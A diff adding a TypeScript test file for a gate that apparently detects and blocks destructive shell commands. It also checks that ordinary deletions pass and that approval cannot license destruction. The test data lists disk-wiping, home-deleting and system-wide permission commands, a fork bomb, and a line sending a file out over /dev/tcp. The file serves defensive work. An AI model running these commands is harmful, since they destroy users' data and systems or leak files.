@@ -1,0 +1,55 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { builtInGates } from "./built-in.ts";
+import { destructionIn } from "./destruction.ts";
+import { makeJudge } from "./judge.ts";
+import { approvalOf, sampleEffects, sampleFacts } from "./sample.ts";
+
+test("what destroys a system, a disk or a home is known in every plain spelling", () => {
+  const destructive: readonly (readonly string[])[] = [
+    ["rm", "-rf", "/"],
+    ["rm", "--recursive", "--force", "/*"],
+    ["sudo", "rm", "-fr", "/etc"],
+    ["rm", "-r", "--no-preserve-root", "x"],
+    ["bash", "-c", "rm -rf $HOME"],
+    ["bash", "-c", `cd /tmp && rm -rf "$\{HOME}/"`],
+    ["sh", "-c", "if true; then rm -rf ~; fi"],
+    ["find", "/", "-delete"],
+    ["find", "/home", "-exec", "rm", "{}", "+"],
+    ["dd", "if=/dev/zero", "of=/dev/sda"],
+    ["bash", "-c", "cat /dev/zero > /dev/nvme0n1"],
+    ["wipefs", "-a", "/dev/sdb"],
+    ["shred", "/dev/sda"],
+    ["chmod", "-R", "777", "/"],
+    ["bash", "-c", "cat notes > /dev/tcp/example.org/80"],
+    ["bash", "-c", ":(){ :|: & };:"],
+  ];
+  for (const argv of destructive) assert.notEqual(destructionIn(argv), null, argv.join(" "));
+});
+
+test("ordinary deleting, searching and writing is left to the other gates", () => {
+  const ordinary: readonly (readonly string[])[] = [
+    ["rm", "-rf", "build"],
+    ["rm", "/etc-copy"],
+    ["rm", "-r", "./usr"],
+    ["find", ".", "-name", "*.tmp", "-delete"],
+    ["find", "/", "-name", "*.tmp", "-delete"],
+    ["dd", "if=/dev/sda", "of=disk.img"],
+    ["wipefs", "/dev/sda"],
+    ["chmod", "-R", "u+w", "src"],
+    ["bash", "-c", "rm -rf /tmp/x"],
+    ["bash", "-c", "echo done > out.txt"],
+  ];
+  for (const argv of ordinary) assert.equal(destructionIn(argv), null, argv.join(" "));
+});
+
+test("no approval lets destruction pass", () => {
+  const effect = { ...sampleEffects.run, argv: ["rm", "-rf", "/"], proof: null, doubt: "rm deletes" };
+  const licensed = { ...sampleFacts, licences: [approvalOf("unproved-program", "destruction")] };
+  assert.equal(makeJudge(builtInGates)([effect], licensed).verdict, "block");
+});
+
+test("looking for destruction takes linear time on a hostile command", () => {
+  const text = `${"rm -rf ".repeat(50_000)}${":(){ ".repeat(20_000)}`;
+  assert.equal(destructionIn(["bash", "-c", text]), null);
+});
